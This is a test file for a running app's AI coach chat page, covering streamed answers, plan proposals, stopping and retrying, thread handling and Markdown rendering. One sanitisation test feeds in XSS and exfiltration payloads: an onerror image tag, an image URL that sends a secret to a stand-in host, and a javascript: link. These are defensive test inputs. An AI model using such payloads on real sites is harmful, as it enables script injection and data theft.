import { fireEvent, screen, waitFor, within } from '@testing-library/react';
import { Link, Route, Routes } from 'react-router';
import { describe, expect, it, vi } from 'vitest';
import { events, type ServerEvent } from '../api/events';
import { Reply, scriptedApi, sse, sseEvent, type Asked } from '../test/api';
import { show } from '../test/render';
import { citationsIn, pageOf, withoutMarks } from './Citations';
import CoachPage from './CoachPage';
import { Markdown } from './Markdown';

const api = (more: Record<string, unknown> = {}) =>
  scriptedApi({ 'GET /v1/coach/suggestions': { suggestions: ['How is my week?', 'b', 'c', 'd', 'e', 'f'] }, 'GET /v1/coach/threads': [], 'GET /v1/coach/proposals': [], ...more });

/** A question that is answered only by being given up. */
const never = ({ signal }: Asked) => new Promise((_, refuse) => signal?.addEventListener('abort', () => refuse(signal.reason)));

const answer = (change: object = {}) => ({ response: 'Keep **easy**.', thread_id: 'thread-1', error: false, briefing: null, ...change });
describe('the coach', () => {
  it('answers as it speaks, and a suggestion is a question', async () => {
    const script = api({
      'POST /v1/coach/chat': () => sse('event: token\ndata: {"text":"Keep "}\n\n', `event: done\ndata: ${JSON.stringify(answer())}\n\n`),
    });
    const { user } = show(<CoachPage />);

    await user.click(await screen.findByRole('button', { name: 'How is my week?' }));

    expect((await screen.findByText('easy')).tagName).toBe('STRONG');
    expect(script.calls('POST /v1/coach/chat')[0]?.body).toEqual({ message: 'How is my week?', thread_id: null });
  });

  it('shows the briefing in place of an answer where there is no model', async () => {
    api({
      'POST /v1/coach/chat': () =>
        sse(`event: error\ndata: ${JSON.stringify(answer({ response: 'No model is configured.', error: true, briefing: { text: 'Today: tempo.' } }))}\n\n`),
    });
    const { user } = show(<CoachPage />);

    await user.type(await screen.findByRole('textbox'), 'Hello{Enter}');

    expect(await screen.findByText('No model is configured.')).toBeTruthy();
    expect(screen.getByText('Today: tempo.')).toBeTruthy();
  });

  it('says what it had to do without', async () => {
    api({ 'POST /v1/coach/chat': () => sse(sseEvent('done', answer({ missing: ['fitness', 'bests'] }))) });
    const { user } = show(<CoachPage />);

    await user.type(await screen.findByRole('textbox'), 'Hello{Enter}');

    expect(await screen.findByText('Not available for this answer: Fitness, Personal bests.')).toBeTruthy();
  });

  it('shows a proposal with what would change, and accepts it on a click', async () => {
    const session = (date: string) => ({ scheduled_date: date, workout_type: 'long', title: 'Long', target_distance_km: 18, target_duration_minutes: null });
    const proposal = {
      id: 'p-1', kind: 'changes', status: 'open', title: 'Move the long run', plan: null, findings: [], reasons: [],
      changes: [{ workout_id: 'w', kind: 'moved', before: session('2026-11-29'), after: session('2026-11-28') }],
    };
    const script = api({
      'GET /v1/coach/proposals': [proposal],
      'POST /v1/coach/proposals/p-1/accept': { ...proposal, status: 'accepted' },
    });
    const { user } = show(<CoachPage />);

    expect((await screen.findAllByText(/Long run · 18 km/)).length).toBe(2);
    await user.click(screen.getByRole('button', { name: 'Accept' }));

    expect(await screen.findByText('Accepted')).toBeTruthy();
    expect(script.calls('POST /v1/coach/proposals/p-1/accept')).toHaveLength(1);
  });

  it('says in the language of the pages what a proposal breaks and what a rule warns of', async () => {
    const findings = [
      {
        rule: 'longest_run_at_the_right_distance_from_the_race', passed: false, severity: 'error', value: '41 days before the race', bound: '1 to 3 weeks', week: null, date: '2026-12-20',
        message: 'Your longest run is 41 days before the race: it should be later or earlier.',
      },
      { rule: 'a_rule_of_tomorrow', passed: false, severity: 'warning', value: null, bound: null, week: null, date: null, message: 'Mind the gap.' },
    ];
    api({ 'GET /v1/coach/proposals': [{ id: 'p-1', kind: 'changes', status: 'open', title: 'Skip the long run', plan: null, findings, reasons: [], changes: [] }] });

    show(<CoachPage />, { language: 'de' });

    const broken = (await screen.findByText('Dein längster Lauf ist 41 Tage vor dem Rennen: Er sollte später oder früher sein.')).closest('li');
    const warned = screen.getByText('Mind the gap.').closest('li');
    expect(broken?.className).toBe('finding-error');
    expect(broken?.textContent).toMatch(/^Bricht eine Regel: /);
    expect(warned?.className).toBe('finding-warning');
    expect(warned?.textContent).toMatch(/^Beachte: /);
    expect(screen.queryByText('Der Plan hat keinen langen Lauf.')).toBeNull();
  });

  it('says so when the plan has moved on since a proposal, and it can be read again', async () => {
    const proposal = { id: 'p-1', kind: 'changes', status: 'open', title: 'Move the long run', plan: null, findings: [], reasons: ['You are tired.'], changes: [] };
    const script = api({
      'GET /v1/coach/proposals': [proposal],
      'POST /v1/coach/proposals/p-1/accept': new Reply(409, { title: 'Conflict', detail: 'The plan has moved on since this was proposed.' }),
    });
    const { user } = show(<CoachPage />);

    await user.click(await screen.findByRole('button', { name: 'Accept' }));

    expect(await screen.findByText('The plan has moved on since this was proposed.')).toBeTruthy();
    await waitFor(() => expect(script.calls('GET /v1/coach/proposals').length).toBeGreaterThan(1));
  });

  it('leaves the plan as it is when a proposal is rejected', async () => {
    const proposal = { id: 'p-1', kind: 'changes', status: 'open', title: 'Move the long run', plan: null, findings: [], reasons: [], changes: [] };
    api({ 'GET /v1/coach/proposals': [proposal], 'POST /v1/coach/proposals/p-1/reject': { ...proposal, status: 'rejected' } });
    const { user } = show(<CoachPage />);

    await user.click(await screen.findByRole('button', { name: 'Reject' }));

    expect(await screen.findByText('Rejected')).toBeTruthy();
    expect(screen.queryByRole('button', { name: 'Accept' })).toBeNull();
  });

  it('stops when it is told to', async () => {
    api({ 'POST /v1/coach/chat': never });
    const { user } = show(<CoachPage />);

    await user.type(await screen.findByRole('textbox'), 'Hello{Enter}');

    await user.click(await screen.findByRole('button', { name: 'Stop' }));
    expect(await screen.findByText('Stopped.')).toBeTruthy();
    expect(screen.getByRole('button', { name: 'Send' })).toBeTruthy();
  });

  it('asks again what was stopped', async () => {
    const script = api({ 'POST /v1/coach/chat': never });
    const { user } = show(<CoachPage />);
    await user.type(await screen.findByRole('textbox'), 'Hello{Enter}');
    await user.click(await screen.findByRole('button', { name: 'Stop' }));
    script.answer('POST /v1/coach/chat', () => sse(sseEvent('done', answer())));

    await user.click(await screen.findByRole('button', { name: 'Ask again' }));

    expect(await screen.findByText('easy')).toBeTruthy();
    expect(screen.getAllByText('Hello')).toHaveLength(1);
    expect(script.calls('POST /v1/coach/chat')[1]?.body).toEqual({ message: 'Hello', thread_id: null });
  });

  it('goes on in the conversation that began with what was stopped', async () => {
    const script = api({ 'POST /v1/coach/chat': never });
    const { user } = show(<CoachPage />, { at: '/coach', path: '/coach/:thread?' });
    await user.type(await screen.findByRole('textbox'), 'Hello{Enter}');
    script.answer('GET /v1/coach/threads', [{ id: 'thread-1', title: 'Hello', created_at: '2026-11-01T00:00:00Z', updated_at: '2026-11-01T00:00:00Z' }]);
    script.answer('GET /v1/coach/threads/thread-1', { id: 'thread-1', title: 'Hello', turns: [{ speaker: 'athlete', text: 'Hello', at: '2026-11-01T00:00:00Z' }] });
    await user.click(await screen.findByRole('button', { name: 'Stop' }));
    script.answer('POST /v1/coach/chat', () => sse(sseEvent('done', answer())));
    await screen.findByRole('button', { name: 'Ask again' });

    await user.type(screen.getByRole('textbox'), 'And now?{Enter}');

    expect(await screen.findByText('easy')).toBeTruthy();
    expect(within(screen.getByRole('log')).getByText('Hello')).toBeTruthy();
    expect(script.calls('POST /v1/coach/chat')[1]?.body).toEqual({ message: 'And now?', thread_id: 'thread-1' });
  });

  it('shows what it proposed and what it built on in a conversation that is opened again', async () => {
    const proposal = { id: 'p-1', kind: 'changes', status: 'accepted', title: 'Rest on Friday', thread_id: 't-1', plan: null, findings: [], reasons: [], changes: [], made_at: '2026-11-01T10:00:02.5Z' };
    const turn = (speaker: string, text: string, second: number) => ({ speaker, text, at: `2026-11-01T10:00:0${second}Z` });
    api({
      'GET /v1/coach/threads/t-1': {
        id: 't-1', title: 'Tired', created_at: '2026-11-01T10:00:00Z', updated_at: '2026-11-01T10:00:06Z',
        turns: [turn('athlete', 'I am tired.', 1), turn('coach', 'Rest. You ran **9.5 km** on Sunday [activity.2026-10-31.1].', 3), turn('athlete', 'And then?', 5), turn('coach', 'Run easy.', 6)],
      },
      'GET /v1/coach/proposals': [{ ...proposal, id: 'p-2', title: 'Of another conversation', thread_id: 't-2' }, proposal],
    });

    const { user, container } = show(<CoachPage />, { at: '/coach/t-1', path: '/coach/:thread?' });

    const card = await screen.findByRole('region', { name: 'Rest on Friday' });
    expect(card.closest('.turn')?.textContent).toContain('You ran 9.5 km');
    expect(container.textContent).not.toContain('Of another conversation');
    await user.click(screen.getByText('Based on 1 of your data points'));
    expect(screen.getByRole('link', { name: 'You ran 9.5 km on Sunday.' }).getAttribute('href')).toBe('/calendar?day=2026-10-31');
  });

  it('is a new conversation where one that began with the same words was there before', async () => {
    const earlier = { id: 't-1', title: 'Hello', created_at: '2026-11-01T00:00:00Z', updated_at: '2026-11-01T00:00:00Z' };
    const script = api({
      'POST /v1/coach/chat': never,
      'GET /v1/coach/threads': [earlier],
      'GET /v1/coach/threads/t-1': { ...earlier, turns: [{ speaker: 'athlete', text: 'Hello', at: '2026-11-01T00:00:00Z' }] },
    });
    const { user } = show(<CoachPage />, { at: '/coach', path: '/coach/:thread?' });
    await screen.findByRole('link', { name: 'Hello' });
    await user.type(await screen.findByRole('textbox'), 'Hello{Enter}');
    await user.click(await screen.findByRole('button', { name: 'Stop' }));
    await screen.findByRole('button', { name: 'Ask again' });
    script.answer('POST /v1/coach/chat', () => sse(sseEvent('done', answer())));

    await user.type(screen.getByRole('textbox'), 'And now?{Enter}');

    await screen.findByText('easy');
    expect(script.calls('POST /v1/coach/chat')[1]?.body).toEqual({ message: 'And now?', thread_id: null });
  });

  it('keeps what is typed while it looks up where the stopped question belongs', async () => {
    const script = api({ 'POST /v1/coach/chat': never });
    const { user } = show(<CoachPage />, { at: '/coach', path: '/coach/:thread?' });
    await user.type(await screen.findByRole('textbox'), 'Hello{Enter}');
    let found = (_threads: unknown) => {};
    script.answer('GET /v1/coach/threads', () => new Promise((resolve) => (found = resolve)));

    await user.click(await screen.findByRole('button', { name: 'Stop' }));
    expect(await screen.findByRole('button', { name: 'Send' })).toBeTruthy();
    await user.type(screen.getByRole('textbox'), 'And now?{Enter}');

    expect(screen.getByRole('textbox')).toHaveProperty('value', 'And now?');
    expect(script.calls('POST /v1/coach/chat')).toHaveLength(1);
    found([]);
    expect(await screen.findByRole('button', { name: 'Ask again' })).toBeTruthy();
  });

  it('shows a conversation before what was proposed in it is known', async () => {
    api({
      'GET /v1/coach/threads/t-1': { id: 't-1', title: 'Tired', created_at: '', updated_at: '', turns: [{ speaker: 'coach', text: 'Rest.', at: '2026-11-01T10:00:00Z' }] },
      'GET /v1/coach/proposals': never,
    });

    show(<CoachPage />, { at: '/coach/t-1', path: '/coach/:thread?' });

    expect(await screen.findByText('Rest.')).toBeTruthy();
  });

  it('goes on at the list of conversations after one is deleted', async () => {
    const kept = (id: string) => ({ id, title: `About ${id}`, created_at: '2026-11-01T00:00:00Z', updated_at: '2026-11-01T00:00:00Z' });
    const script = api({ 'GET /v1/coach/threads': [kept('a'), kept('b'), kept('c')], 'DELETE /v1/coach/threads/a': new Reply(204), 'DELETE /v1/coach/threads/b': new Reply(204) });
    const { user } = show(<CoachPage />);

    for (const [id, rest] of [['a', [kept('b'), kept('c')]], ['b', [kept('c')]]] as const) {
      await user.click(await screen.findByRole('button', { name: `Delete “About ${id}”` }));
      script.answer('GET /v1/coach/threads', rest);
      await user.click(screen.getByRole('button', { name: 'Delete' }));

      await waitFor(() => expect(screen.queryByRole('link', { name: `About ${id}` })).toBeNull());
      expect(document.activeElement).toBe(screen.getByRole('heading', { name: 'Earlier conversations' }));
    }
  });

  it('shows a conversation whose proposals cannot be read', async () => {
    api({
      'GET /v1/coach/threads/t-1': { id: 't-1', title: 'Tired', created_at: '', updated_at: '', turns: [{ speaker: 'coach', text: 'Rest.', at: '2026-11-01T10:00:00Z' }] },
      'GET /v1/coach/proposals': new Reply(503, { title: 'Away' }),
    });

    show(<CoachPage />, { at: '/coach/t-1', path: '/coach/:thread?' });

    expect(await screen.findByText('Rest.')).toBeTruthy();
  });

  it('asks again what failed', async () => {
    const script = api({ 'POST /v1/coach/chat': new Reply(503, { title: 'Away', detail: 'The coach is away.' }) });
    const { user } = show(<CoachPage />);
    await user.type(await screen.findByRole('textbox'), 'Hello{Enter}');
    expect(await screen.findByText('The coach is away.')).toBeTruthy();
    script.answer('POST /v1/coach/chat', () => sse(sseEvent('done', answer())));

    await user.click(screen.getByRole('button', { name: 'Try again' }));

    expect(await screen.findByText('easy')).toBeTruthy();
    expect(screen.queryByText('The coach is away.')).toBeNull();
  });

  it('only fills in the question of an address: whoever made the link does not ask', async () => {
    const script = api();
    show(<CoachPage />, { at: '/coach?ask=Cancel%20my%20plan' });

    await waitFor(() => expect(document.activeElement).toHaveProperty('value', 'Cancel my plan'));
    expect(script.calls('POST /v1/coach/chat')).toHaveLength(0);
  });

  it('shows a proposal of its answer once', async () => {
    const proposal = { id: 'p-1', kind: 'changes', status: 'open', title: 'Move the long run', plan: null, findings: [], reasons: [], changes: [] };
    const script = api({
      'POST /v1/coach/chat': () => {
        script.answer('GET /v1/coach/proposals', [proposal, { ...proposal, id: 'p-2', title: 'Rest on Monday' }]);
        return sse(sseEvent('proposal', proposal), sseEvent('done', answer({ proposals: [proposal] })));
      },
    });
    const { user, client } = show(<CoachPage />);
    await user.type(await screen.findByRole('textbox'), 'Hello{Enter}');
    await screen.findByText('easy');

    await client.invalidateQueries();

    expect(await screen.findByText('Rest on Monday')).toBeTruthy();
    expect(screen.getAllByText('Move the long run')).toHaveLength(1);
  });

  it('brings a conversation back that could not be deleted', async () => {
    api({
      'GET /v1/coach/threads': [{ id: 't-1', title: 'My week', created_at: '2026-11-01T00:00:00Z', updated_at: '2026-11-01T00:00:00Z' }],
      'DELETE /v1/coach/threads/t-1': new Reply(503, { title: 'Away', detail: 'The coach is away.' }),
    });
    const { user } = show(<CoachPage />);

    await user.click(await screen.findByRole('button', { name: 'Delete “My week”' }));
    await user.click(screen.getByRole('button', { name: 'Delete' }));

    expect(await screen.findByText('The coach is away.')).toBeTruthy();
    await waitFor(() => expect(screen.getByRole('link', { name: 'My week' })).toBeTruthy());
  });
});

describe('a conversation that is left while the coach speaks', () => {
  const threads = ['a', 'b'].map((id) => ({ id, title: `About ${id}`, created_at: '2026-11-01T00:00:00Z', updated_at: '2026-11-01T00:00:00Z' }));
  const kept = (id: string, ...words: string[]) => ({ ...threads[0], id, turns: words.map((text) => ({ speaker: 'coach', text, at: '2026-11-01T00:00:00Z' })) });

  /** An answer whose events come when a test says so. */
  function spoken() {
    let stream!: ReadableStreamDefaultController<Uint8Array>;
    let signal: AbortSignal | null | undefined;
    const body = new ReadableStream<Uint8Array>({ start: (controller) => void (stream = controller) });
    return {
      reply: (asked: Asked) => {
        signal = asked.signal;
        return new Response(body, { headers: { 'Content-Type': 'text/event-stream' } });
      },
      says: (name: string, data: unknown) => stream.enqueue(new TextEncoder().encode(sseEvent(name, data))),
      isGivenUp: () => signal?.aborted ?? false,
    };
  }

  async function speaking(at = '/coach') {
    const voice = spoken();
    const script = api({
      'GET /v1/coach/threads': threads,
      'GET /v1/coach/threads/a': kept('a', 'Words of A.'),
      'GET /v1/coach/threads/b': kept('b', 'Words of B.'),
      'DELETE /v1/coach/threads/a': new Reply(204),
      'POST /v1/coach/chat': voice.reply,
    });
    const shown = show(
      <Routes>
        <Route path="/coach" element={<CoachPage />} />
        <Route path="/coach/:thread" element={<CoachPage />} />
        <Route path="*" element={<p>another page</p>} />
      </Routes>,
      { at, beside: <Link to="/runs">leave</Link> },
    );
    if (at !== '/coach') await screen.findByText(/Words of/);
    await shown.user.type(await screen.findByRole('textbox'), 'Hello{Enter}');
    voice.says('token', { text: 'Half an answer' });
    await screen.findByText('Half an answer');
    return { ...shown, voice, script };
  }

  it('keeps its end in sight until the reader scrolls', async () => {
    const follow = vi.spyOn(Element.prototype, 'scrollIntoView');
    const { voice } = await speaking();
    expect(follow).toHaveBeenCalled();

    fireEvent.wheel(window);
    follow.mockClear();
    voice.says('token', { text: ' and more' });

    await screen.findByText('Half an answer and more');
    expect(follow).not.toHaveBeenCalled();
  });

  it.each([
    ['a key that scrolls', () => fireEvent.keyDown(document.body, { key: 'PageUp' }), false],
    ['a key that moves the caret', () => fireEvent.keyDown(screen.getByRole('textbox'), { key: 'ArrowUp' }), true],
    [
      'the scrollbar',
      () => {
        for (const top of [200, 100]) {
          vi.spyOn(window, 'scrollY', 'get').mockReturnValue(top);
          fireEvent.scroll(window);
        }
      },
      false,
    ],
  ])('is followed, or not, after %s', async (_name, move, follows) => {
    const follow = vi.spyOn(Element.prototype, 'scrollIntoView');
    const { voice } = await speaking();

    move();
    follow.mockClear();
    voice.says('token', { text: ' and more' });

    await screen.findByText('Half an answer and more');
    expect(follow.mock.calls.length > 0).toBe(follows);
    vi.restoreAllMocks();
  });

  it('gives the answer up for a new conversation', async () => {
    const { user, voice } = await speaking();

    await user.click(screen.getByRole('button', { name: 'New conversation' }));
    voice.says('token', { text: ' and the rest' });
    voice.says('done', answer());

    expect(await screen.findByRole('button', { name: 'Send' })).toBeTruthy();
    expect(await screen.findByText('Worth asking today')).toBeTruthy();
    expect(screen.queryByText(/Half an answer|easy/)).toBeNull();
    expect(voice.isGivenUp()).toBe(true);
  });

  it('gives the answer up with the thread that is deleted', async () => {
    const { user, voice } = await speaking('/coach/a');

    await user.click(screen.getByRole('button', { name: 'Delete “About a”' }));
    expect(voice.isGivenUp()).toBe(false);
    await user.click(screen.getByRole('button', { name: 'Delete' }));

    expect(await screen.findByText('Worth asking today')).toBeTruthy();
    expect(voice.isGivenUp()).toBe(true);
  });

  it('shows another thread as it was', async () => {
    const { user, voice } = await speaking('/coach/a');

    await user.click(screen.getByRole('link', { name: 'About b' }));
    voice.says('token', { text: ' and the rest' });
    voice.says('done', answer({ thread_id: 'a' }));

    expect(await screen.findByText('Words of B.')).toBeTruthy();
    expect(voice.isGivenUp()).toBe(true);
    expect(screen.queryByText(/Half an answer|Words of A|easy/)).toBeNull();
    expect(screen.getByRole('link', { name: 'About b' }).getAttribute('aria-current')).toBe('page');
  });

  it('shows a thread with its own words again after another', async () => {
    const { user, voice, script } = await speaking('/coach/a');
    voice.says('done', answer({ thread_id: 'a' }));
    await screen.findByText('easy');
    script.answer('GET /v1/coach/threads/a', kept('a', 'Words of A.', 'Keep easy.'));

    await user.click(screen.getByRole('link', { name: 'About b' }));
    await screen.findByText('Words of B.');
    await user.click(screen.getByRole('link', { name: 'About a' }));

    expect(await screen.findByText('Keep easy.')).toBeTruthy();
    expect(screen.queryByText('Words of B.')).toBeNull();
  });

  it('does not call back who has left', async () => {
    const { user, voice } = await speaking();

    await user.click(screen.getByRole('link', { name: 'leave' }));
    expect(await screen.findByText('another page')).toBeTruthy();

    expect(voice.isGivenUp()).toBe(true);
  });

  it('is not overwritten by what was kept of it', async () => {
    const { client, script } = await speaking('/coach/a');
    script.answer('GET /v1/coach/threads/a', kept('a', 'Words of A.', 'Kept meanwhile.'));
    script.answer('GET /v1/coach/threads', [{ ...threads[0], title: 'Read anew' }]);

    await client.refetchQueries();

    expect(await screen.findByText('Read anew')).toBeTruthy();
    expect(screen.getByText('Half an answer')).toBeTruthy();
  });
});

describe('Markdown of a model', () => {
  it('is never HTML, loads nothing and leads nowhere else', () => {
    const hostile = '<img src=x onerror=alert(1)> ![x](https://evil.test/?d=secret) [here](https://evil.test) [js](javascript:alert(1)) [own](/runs)';
    const { container } = show(<Markdown text={hostile} />);

    expect(container.querySelectorAll('img, script, iframe').length).toBe(0);
    expect([...container.querySelectorAll('a')].map((link) => link.getAttribute('href'))).toEqual(['/runs']);
    expect(container.textContent).toContain('<img src=x onerror=alert(1)>');
  });

  it('has lists, headings, emphasis and code', () => {
    const { container } = show(<Markdown text={'## Week\n\n- **easy** 8 km\n- long *slow*\n\n1. `one`\n2. two'} />);

    expect(container.querySelectorAll('ul > li').length).toBe(2);
    expect(container.querySelectorAll('ol > li').length).toBe(2);
    expect(container.querySelector('h3')?.textContent).toBe('Week');
    expect(container.querySelector('code')?.textContent).toBe('one');
  });
});

it('events are read however the network cuts them', async () => {
  const found: ServerEvent[] = [];
  for await (const event of events(sse('event: tok', 'en\ndata: {"text":', '"a"}\n', '\nevent: done\ndata: {}\n\n').body!)) found.push(event);

  expect(found).toEqual([
    { name: 'token', data: '{"text":"a"}' },
    { name: 'done', data: '{}' },
  ]);
});

it.each([
  ['recent.3.distance', '/runs'],
  ['activity.2026-11-22.1.lap.2.pace', '/calendar?day=2026-11-22'],
  ['period.2026-11-01.2026-11-30.distance', '/runs'],
  ['bests.1', '/runs'],
  ['week.2', '/calendar'],
  ['ahead.1.pace_fast', '/calendar'],
  ['plan.2026-11-28.3.how', '/calendar?day=2026-11-28'],
  ['plan.week.4.distance', '/calendar'],
  ['plan.race.date', '/plan'],
  ['fitness.form', '/'],
])('the fact %s leads to %s', (fact, page) => {
  expect(pageOf(fact)).toBe(page);
});

it('an answer leads to the day of what it rests on', async () => {
  api({
    'POST /v1/coach/chat': () =>
      sse(sseEvent('done', answer({ citations: [{ text: '10.2 km', facts: ['recent.1.distance'], day: '2026-11-22' }, { text: '40 km', facts: ['week.total.distance'], day: null }] }))),
  });
  const { user } = show(<CoachPage />);
  await user.type(await screen.findByRole('textbox'), 'Hello{Enter}');

  await user.click(await screen.findByText('Based on 2 of your data points'));

  expect(screen.getByRole('link', { name: '10.2 km' }).getAttribute('href')).toBe('/calendar?day=2026-11-22');
  expect(screen.getByRole('link', { name: '40 km' }).getAttribute('href')).toBe('/calendar');
});

it('a mark after a full stop belongs to the sentence before it', () => {
  expect(citationsIn('You ran **9.5 km**. [activity.2026-10-31.1] Rest now. [week.2]\n[bests.1] is your best.\n- [week.3] Run long.')).toEqual([
    { text: 'You ran 9.5 km.', facts: ['activity.2026-10-31.1'], day: null },
    { text: 'Rest now.', facts: ['week.2'], day: null },
    { text: 'is your best.', facts: ['bests.1'], day: null },
    { text: 'Run long.', facts: ['week.3'], day: null },
  ]);
});

it('an answer is shown without the ids of its facts, and its links stay', () => {
  expect(withoutMarks('Run 9.5 km [week.3], then rest [ahead.1.time; ahead.2]. [sic] [my.run](/runs)')).toBe('Run 9.5 km, then rest. [sic] [my.run](/runs)');
});
